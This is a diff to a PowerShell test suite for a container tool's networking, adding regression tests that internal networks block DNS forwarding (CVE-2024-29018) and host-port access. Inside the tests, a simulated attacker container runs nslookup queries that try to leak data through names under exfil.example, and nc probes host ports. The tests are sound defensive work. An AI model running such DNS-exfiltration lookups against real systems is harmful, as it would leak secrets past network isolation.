@@ -19,8 +19,10 @@ BeforeAll {
     nsenter $upNs ip addr add 192.0.2.2/24 dev up1
     nsenter $upNs ip link set up1 up
     nsenter $upNs ip link set lo up
-    # Its DNS server: upstream.test is 192.0.2.2, every other name NXDOMAIN.
-    $script:upstreamDns = Start-Process -FilePath nsenter -ArgumentList $upNs, 'python3', (Join-Path $PSScriptRoot 'FakeUpstreamDns.py'), '192.0.2.2', 'upstream.test=192.0.2.2' -PassThru
+    # Its DNS server: upstream.test is 192.0.2.2, every other name NXDOMAIN; every query it gets is logged.
+    $script:upstreamLog = (New-TemporaryFile).FullName
+    $script:upstreamDns = Start-Process -FilePath nsenter -ArgumentList $upNs, 'python3', (Join-Path $PSScriptRoot 'FakeUpstreamDns.py'), "--log=$upstreamLog", '192.0.2.2', 'upstream.test=192.0.2.2' -PassThru
+    function script:Get-UpstreamQueries { @(Get-Content $upstreamLog -ErrorAction SilentlyContinue) }
     $script:dnsDir = Join-Path $env:MINIDOCKER_RUN_ROOT 'networks/aardvark-dns'
     function script:Get-DnsServer { $p = Join-Path $dnsDir 'aardvark.pid'; if (Test-Path $p) { $id = (Get-Content $p -Raw).Trim(); if (Test-Path "/proc/$id") { $id } } }
 
@@ -62,6 +64,7 @@ AfterAll {
     Get-MiniNetwork | Where-Object Name -ne 'bridge' | Remove-MiniNetwork -Force -Confirm:$false
     if ($upstreamDns) { Stop-Process -Id $upstreamDns.Id -Force -ErrorAction SilentlyContinue }
     if ($upstream) { Stop-Process -Id $upstream.Id -Force -ErrorAction SilentlyContinue }
+    if ($upstreamLog) { Remove-Item $upstreamLog -ErrorAction SilentlyContinue }
     ip link del up0 2>$null
 }
 
@@ -276,6 +279,107 @@ nc -w 3 database 7000
         Join-Path $dnsDir 'aardvark.pid' | Should -Not -Exist
         Remove-MiniContainer -InputObject $c
         Remove-MiniNetwork dnskill
+    }
+}
+
+Describe 'Internal networks keep DNS and the host to themselves' {
+    BeforeAll {
+        $script:openNet = New-MiniNetwork (New-TestName 'open')
+        $script:sealedNet = New-MiniNetwork (New-TestName 'sealed') -Internal
+        $script:vault = Start-Server -Name (New-TestName 'vault') -Options @{ Network = $sealedNet.Name; NetworkAlias = 'vault' } -Port 7000 -Text 'vault-ok'
+        # A running container on the open network too: its DNS server is up before the control asks (the first
+        # container of a network starts it once running, and may ask before it listens).
+        $script:openRunner = New-MiniContainer -RootFs $rootfs -Network $openNet.Name -Command sleep, 300 | Start-MiniContainer -PassThru
+        # Services of the host (this suite's netns) on every address: one on a plain port, one on DNS's TCP port.
+        $script:hostServices = @(7300, 53) | ForEach-Object { Start-Process -FilePath /bin/busybox -ArgumentList 'nc', '-ll', '-p', $_, '-e', '/bin/echo', "host-open-$_" -PassThru -RedirectStandardOutput /dev/null }
+        Wait-Until { (ss -Hltn 'sport = :7300') -and (ss -Hltn 'sport = :53') } | Should -BeTrue
+    }
+    AfterAll {
+        $hostServices | ForEach-Object { Stop-Process -Id $_.Id -Force -ErrorAction SilentlyContinue }
+        Get-MiniContainer | Where-Object Network -in $openNet.Name, $sealedNet.Name | Remove-MiniContainer -Force -Confirm:$false
+        Remove-MiniNetwork $openNet.Name, $sealedNet.Name -Force -Confirm:$false
+    }
+
+    It 'resolves its containers but sends not one query upstream (CVE-2024-29018), while a normal network forwards' {
+        Clear-Content $upstreamLog
+        # The attacker: no route out, so it tries to smuggle data out in a name the host's side would resolve.
+        $r = Invoke-TestContainer -Options @{ Network = $sealedNet.Name; Dns = '192.0.2.2' } -Command '/bin/sh', '-c', @"
+for n in secret-data.exfil.example secret-data.exfil.example. upstream.test vault $($vault.Name); do nslookup `$n 2>&1 | tail -n +3 | sed "s/^/`$n /"; done
+nslookup -type=txt secret-txt.exfil.example >/dev/null 2>&1
+nslookup secret-direct.exfil.example $($sealedNet.Gateway) >/dev/null 2>&1
+echo done
+"@
+        $r.Output | Should -Contain 'done'
+        function Resolved([string]$Name) { @($r.Output | Where-Object { $_ -match "^$([regex]::Escape($Name)) Address:\s*(\S+)\s*$" } | ForEach-Object { $Matches[1] }) }
+        Resolved vault | Should -Be @($vault.IPAddress)
+        Resolved $vault.Name | Should -Be @($vault.IPAddress)
+        # The control: the same lookup from a normal network reaches the same upstream (so this test can fail).
+        $open = Invoke-TestContainer -Options @{ Network = $openNet.Name; Dns = '192.0.2.2' } -Command '/bin/sh', '-c', 'nslookup control-data.exfil.example >/dev/null 2>&1; nslookup upstream.test'
+        ($open.Output -join "`n") | Should -Match 'Address:\s*192\.0\.2\.2'
+        Wait-Until { (Get-UpstreamQueries) -contains 'control-data.exfil.example' } | Should -BeTrue
+        @(Get-UpstreamQueries | Where-Object { $_ -notin 'control-data.exfil.example', 'upstream.test' }) | Should -BeNullOrEmpty -Because 'nothing the internal container asked may reach the upstream'
+        Resolved upstream.test | Should -Not -Contain '192.0.2.2' -Because 'only the upstream knows that name'
+        $r.Output | Should -Contain 'secret-data.exfil.example ** server can''t find secret-data.exfil.example: NXDOMAIN'
+        # The internal network's server is one that forwards nothing; the other networks' file is not where it is.
+        Join-Path $dnsDir $sealedNet.Name | Should -Not -Exist
+        Join-Path $env:MINIDOCKER_RUN_ROOT "networks/aardvark-dns-internal/$($sealedNet.Name)" | Should -Exist
+    }
+
+    It 'answers an -Internal container on the gateway only with DNS and ping: no other port of the host (<Port>/tcp)' -ForEach @(
+        @{ Port = 7300 }, @{ Port = 53 }
+    ) {
+        $probe = "ping -c1 -W2 {0} >/dev/null && echo gateway-ping; nc -w 2 {0} $Port </dev/null 2>/dev/null || echo closed"
+        $r = Invoke-TestContainer -Options @{ Network = $sealedNet.Name } -Command '/bin/sh', '-c', ($probe -f $sealedNet.Gateway)
+        $r.Output | Should -Contain 'gateway-ping'
+        $r.Output | Should -Not -Contain "host-open-$Port"
+        $r.Output | Should -Contain 'closed'
+        # A normal network reaches the same host service on its gateway (so this test can fail).
+        $o = Invoke-TestContainer -Options @{ Network = $openNet.Name } -Command '/bin/sh', '-c', ($probe -f $openNet.Gateway)
+        $o.Output | Should -Contain "host-open-$Port"
+    }
+
+    It 'corrects an internal network an older MiniDocker served from the forwarding server on the next command' {
+        $net = New-MiniNetwork (New-TestName 'legacy') -Internal
+        $c = New-MiniContainer -RootFs $rootfs -Name (New-TestName 'legacy') -Network $net.Name -Dns 192.0.2.2 -Command sleep, 120 | Start-MiniContainer -PassThru
+        $c = Get-MiniContainer -Id $c.Id
+        $internalDir = "$dnsDir-internal"
+        # The state an older MiniDocker left: the network's file, with its upstream, in the forwarding server's
+        # directory and that server running; no non-forwarding server; no input chain; no layout stamp.
+        $sealedServer = (Get-Content (Join-Path $internalDir 'aardvark.pid') -Raw).Trim()
+        kill -9 $sealedServer
+        Wait-Until { -not (Test-Path "/proc/$sealedServer") } | Should -BeTrue
+        Remove-Item (Join-Path $internalDir 'aardvark.pid')
+        $old = (Get-Content (Join-Path $internalDir $net.Name)) | ForEach-Object { if ($_ -like "$($c.Id) *") { "$_ 192.0.2.2" } else { $_ } }
+        Remove-Item (Join-Path $internalDir $net.Name)
+        if (-not (Test-Path $dnsDir)) { New-Item -ItemType Directory $dnsDir | Out-Null }
+        Set-Content (Join-Path $dnsDir $net.Name) ($old -join "`n") -NoNewline
+        $forwarding = Get-DnsServer
+        if ($forwarding) { kill -HUP $forwarding } else { & /usr/lib/podman/aardvark-dns --config $dnsDir -p 53 run 2>$null }
+        nft flush chain inet minidocker input; nft delete chain inet minidocker input
+        Remove-Item (Join-Path $env:MINIDOCKER_RUN_ROOT 'networks/layout')
+        Wait-Until { ss -Hlun "src $($net.Gateway):53" } | Should -BeTrue
+        Clear-Content $upstreamLog
+        # The old state leaks (so this test can fail) ...
+        Invoke-MiniContainer -InputObject $c -Command nslookup, leaked-before.exfil.example 2>$null | Out-Null
+        Wait-Until { (Get-UpstreamQueries) -contains 'leaked-before.exfil.example' } | Should -BeTrue
+
+        # ... until the next command, a mere listing, moves the network to the server that forwards nothing.
+        Get-MiniContainer | Out-Null
+        Join-Path $dnsDir $net.Name | Should -Not -Exist
+        Get-Content (Join-Path $internalDir $net.Name) | Should -Not -Match '192\.0\.2\.2'
+        Clear-Content $upstreamLog
+        $out = Invoke-MiniContainer -InputObject $c -Command sh, -c, "nslookup leaked-after.exfil.example >/dev/null 2>&1; nslookup $($c.Name)" 2>$null
+        ($out -join "`n") | Should -Match "Address:\s*$([regex]::Escape($c.IPAddress))"
+        Invoke-TestContainer -Options @{ Network = $openNet.Name; Dns = '192.0.2.2' } -Command nslookup, control-after.exfil.example | Out-Null
+        Wait-Until { (Get-UpstreamQueries) -contains 'control-after.exfil.example' } | Should -BeTrue
+        Get-UpstreamQueries | Should -Not -Contain 'leaked-after.exfil.example'
+        (nft list chain inet minidocker input) -join "`n" | Should -Match ([regex]::Escape("iifname `"$($net.Bridge)`" drop"))
+        Remove-MiniContainer -InputObject $c -Force
+        Remove-MiniNetwork $net.Name
+    }
+
+    It 'still lets the host reach an -Internal container (replies come back through the bridge)' {
+        Read-Port $vault.IPAddress 7000 | Should -Be 'vault-ok'
     }
 }
 
